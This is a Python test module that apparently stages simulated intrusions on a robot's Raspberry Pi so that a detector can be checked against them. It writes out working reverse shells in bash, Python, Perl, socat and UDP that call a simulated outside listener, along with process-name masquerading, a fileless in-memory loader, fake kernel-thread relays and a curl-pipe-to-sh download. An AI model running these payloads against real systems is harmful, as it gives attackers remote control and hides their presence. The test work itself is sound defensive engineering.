"""Group 2: programs that should not run here: reverse shells, files that are gone, names that lie."""

import contextlib
import subprocess
import sys
from pathlib import Path

from tests.robots.attacks.acting import (
    bring,
    door_to,
    implant,
    linger,
    logs_in_and_works,
    on_internet,
    outside_program,
    put,
    start,
)
from tests.robots.attacks.draw import Draw
from tests.robots.attacks.scene import Act, Scene, Story
from tests.robots.go1 import Go1

_TYPED = (b"id\n", b"uname -a\n", b"ls -la /home/pi\n", b"cat /etc/hostname\n", b"ip addr\n")


class _Handler:
    """Who waits on the internet for a shell to call, with socat, and types into it."""

    def __init__(self, robot: Go1, draw: Draw, udp: bool = False) -> None:
        self.address, self.port = on_internet(robot, draw.address("outside")), draw.port("outside")
        kind = "UDP" if udp else "TCP"
        listen = f"{kind}-LISTEN:{self.port},bind={self.address},reuseaddr"
        self._process = robot.internet.popen(["socat", "-", listen], stdin=subprocess.PIPE)
        robot.internet.wait_for(self.port, kind.lower())

    def types(self) -> None:
        assert self._process.stdin is not None
        for line in _TYPED:
            linger(0.5)
            self._process.stdin.write(line)
            self._process.stdin.flush()
        linger(1)

    def leaves(self) -> None:
        self._process.kill()
        self._process.wait(10)


def _shell(*command: str, udp: bool = False) -> Act:
    def act(robot: Go1, draw: Draw) -> None:
        handler = _Handler(robot, draw, udp)
        words = [word.replace("HOST", handler.address).replace("PORT", str(handler.port)) for word in command]
        shell = start(robot, words)
        handler.types()
        handler.leaves()
        with contextlib.suppress(subprocess.TimeoutExpired):
            shell.wait(2)
        shell.kill()  # datagrams have no end, and not every line of Python notices one

    return act


def _disguised(robot: Go1, draw: Draw) -> None:
    """The shell is a copy under another name, started with a third: nothing of its command line tells."""
    handler = _Handler(robot, draw)
    path = draw.path("shell")
    bring(robot, path)
    put(robot, path, Path("/bin/bash").read_bytes(), 0o755)
    wrapper = f"exec -a {draw.pick('called', ['kthreadd', 'ntpd', 'rsyslogd'])} {path} -i 0<&3 1>&3 2>&3"
    put(robot, f"{path}.conf", f"exec 3<>/dev/tcp/{handler.address}/{handler.port}\n{wrapper}\n")
    shell = start(robot, ["bash", f"{path}.conf"])
    handler.types()
    handler.leaves()
    shell.wait(10)


def _deleted(robot: Go1, draw: Draw) -> None:
    with door_to(robot, draw, ("127.0.0.1", 22)) as door:
        linger(1)
        (robot.pi.root / draw.path("relay")[1:]).unlink()
        logs_in_and_works(robot, draw, door)


def _memory(robot: Go1, draw: Draw) -> None:
    """The program never was a file: a loader fetches it and starts it out of memory."""
    address, port, door = on_internet(robot, draw.address("outside")), draw.port("outside"), draw.high_port("door")
    with outside_program(robot, "far_end", "tcp", address, str(port), str(door), "-"):
        shown = draw.name("shown")
        loader = implant(robot, draw.path("loader"), "memory.py", [shown, "tcp", address, str(port), "127.0.0.1", "22"])
        logs_in_and_works(robot, draw, (address, door))
        loader.terminate()
        loader.wait(10)


def _kernel_thread(robot: Go1, draw: Draw) -> None:
    """Its arguments say that it is a thread of the kernel."""
    called = draw.pick("called", ["[kworker/u8:2-events]", "[migration/1]", "[scsi_eh_0]", "[jbd2/mmcblk0p2-]"])
    path = draw.path("relay")
    with door_to(robot, draw, ("127.0.0.1", 22), path=path, before=["bash", "-c", 'exec -a "$0" "$@"', called]) as door:
        logs_in_and_works(robot, draw, door)


def _fetched(robot: Go1, draw: Draw) -> None:
    """curl | sh: a script from the internet that leaves a program behind and starts it."""
    address, port = on_internet(robot, draw.address("outside")), draw.high_port("outside")
    folder = robot.log.parent / "outside"
    folder.mkdir(exist_ok=True)
    place = f"/home/pi/{draw.name('place')}"
    (folder / "install").write_text(
        f"mkdir -p {place}\ncp /bin/sleep {place}/{draw.name('left')}\n{place}/{draw.name('left')} 60 &\nuname -a\nid\n"
    )
    robot.internet.popen([sys.executable, "-m", "http.server", str(port), "--bind", address], cwd=folder)
    robot.internet.wait_for(port)
    start(robot, ["sh", "-c", f"curl -s http://{address}:{port}/install | sh"])
    linger(4)


_OUT = ("{address[outside]}",)
_SHELL = Story("remote-control", "high", ("shell",), _OUT, ("reverse shell",), ("T1059", "T1095"))
_PYTHON = (
    "import socket,os,pty;s=socket.socket();s.connect(('HOST',PORT));"
    "[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
)
_PERL = (
    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(PORT,inet_aton('HOST')));"
    "open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');"
)
_RELAY = ("{address[outside]}", "ssh", "pi")
SCENES = (
    Scene("shell-bash", 2, "bash calls out by /dev/tcp; somebody types",
          _shell("bash", "-c", "bash -i >& /dev/tcp/HOST/PORT 0>&1"),
          _SHELL),
    Scene("shell-python", 2, "a line of Python gives a terminal away", _shell("python3", "-c", _PYTHON), _SHELL),
    Scene("shell-perl", 2, "a line of Perl does", _shell("perl", "-e", _PERL), _SHELL),
    Scene("shell-socat", 2, "socat joins a shell with a line to the internet",
          _shell("socat", "TCP:HOST:PORT", "EXEC:/bin/sh,pty,stderr,setsid"), _SHELL),
    Scene("shell-udp", 2, "the same in datagrams", _shell("bash", "-c", "sh -i >& /dev/udp/HOST/PORT 0>&1", udp=True),
          _SHELL),
    Scene("shell-disguised", 2, "a shell under another name and with another's arguments calls out", _disguised,
          Story("remote-control", "high", ("shell",), _OUT, ("shell",), ("T1059", "T1036"))),
    Scene("relay-deleted", 2, "a relay's file is deleted while it runs; somebody logs in through it", _deleted,
          Story("remote-control", "high", ("ssh",), _RELAY, ("remote control", "ssh"), ("T1572", "T1070"))),
    Scene("relay-memory", 2, "a relay that never was a file; somebody logs in through it", _memory,
          Story("remote-control", "high", ("ssh",), _RELAY, ("remote control", "ssh"), ("T1572", "T1620"))),
    Scene("relay-kernel-thread", 2, "a relay calls itself a thread of the kernel; somebody logs in through it",
          _kernel_thread,
          Story("remote-control", "high", ("ssh",), _RELAY, ("remote control", "ssh"), ("T1572", "T1036"))),
    Scene("fetched-script", 2, "a script from the internet is run as it comes and leaves a program", _fetched,
          Story("intrusion", "medium", (), (), ("download",), ("T1105",))),
)  # fmt: skip
